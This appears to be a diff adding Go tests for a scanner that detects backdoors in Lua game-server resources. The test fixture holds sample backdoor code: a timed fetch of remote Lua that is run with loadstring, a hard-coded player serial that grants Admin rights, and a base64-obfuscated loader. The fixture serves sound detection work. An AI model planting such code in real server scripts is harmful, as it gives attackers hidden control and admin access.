@@ -0,0 +1,76 @@
+package backdoor
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+)
+
+func TestScanScript(t *testing.T) {
+	script := `local function update()
+	fetchRemote("http://example.com/u.lua", function(data) loadstring(data)() end)
+end
+setTimer(update, 60000, 0)
+addEventHandler("onPlayerJoin", root, function()
+	if getPlayerSerial(source) == "0123456789ABCDEF0123456789ABCDEF" then
+		aclGroupAddObject(aclGetGroup("Admin"), "user." .. getAccountName(getPlayerAccount(source)))
+	end
+end)
+loadstring(base64Decode("cHJpbnQoMSk="))()
+local ok = loadstring("return 1")
+`
+	findings := scanScript("freeroam", "server.lua", []byte(script))
+
+	var got []string
+	for _, finding := range findings {
+		got = append(got, fmt.Sprintf("%s@%d", finding.Rule, finding.Line))
+	}
+	expected := "remote-code@2 serial-backdoor@6 acl-escalation@7 obfuscated-load@10 remote-code@10 remote-code@11"
+	if strings.Join(got, " ") != expected {
+		t.Errorf("Expected findings %q, got %q", expected, strings.Join(got, " "))
+	}
+	if !strings.HasSuffix(findings[0].Message, "on a timer") {
+		t.Errorf("Expected the timer in the message: %s", findings[0].Message)
+	}
+
+	// Loading code without downloading anything is common and not reported
+	if findings := scanScript("admin", "runcode.lua", []byte(`local f = loadstring(code)`)); len(findings) != 0 {
+		t.Errorf("Expected no findings, got %v", findings)
+	}
+}
+
+func TestFindingID(t *testing.T) {
+	first := scanScript("race", "a.lua", []byte(`loadstring(teaDecode(payload, key))()`))
+	moved := scanScript("race", "a.lua", []byte("\n\n  loadstring(teaDecode(payload, key))()"))
+	changed := scanScript("race", "a.lua", []byte(`loadstring(teaDecode(other, key))()`))
+	if len(first) != 1 || len(moved) != 1 || len(changed) != 1 {
+		t.Fatalf("Expected one finding each: %v %v %v", first, moved, changed)
+	}
+	if first[0].ID() != moved[0].ID() {
+		t.Errorf("Expected the id to survive the line moving: %s %s", first[0].ID(), moved[0].ID())
+	}
+	if first[0].ID() == changed[0].ID() {
+		t.Errorf("Expected the id to change with the line: %s", first[0].ID())
+	}
+	if !strings.HasPrefix(first[0].ID(), RuleObfuscatedLoad+":") {
+		t.Errorf("Expected the rule in the id: %s", first[0].ID())
+	}
+}
+
+func TestScanACLRequests(t *testing.T) {
+	meta := `<meta>
+	<script src="server.lua" type="server"/>
+	<aclrequest>
+		<right name="function.kickPlayer" access="true"/>
+		<right name="function.aclSetRight" access="true"/>
+		<right name="function.addAccount" access="false"/>
+	</aclrequest>
+</meta>`
+	findings, err := scanACLRequests("admin", []byte(meta))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(findings) != 1 || findings[0].Rule != RuleSuspiciousACLRight || findings[0].Line != 5 || findings[0].Excerpt != "function.aclSetRight" {
+		t.Errorf("Unexpected findings: %+v", findings)
+	}
+}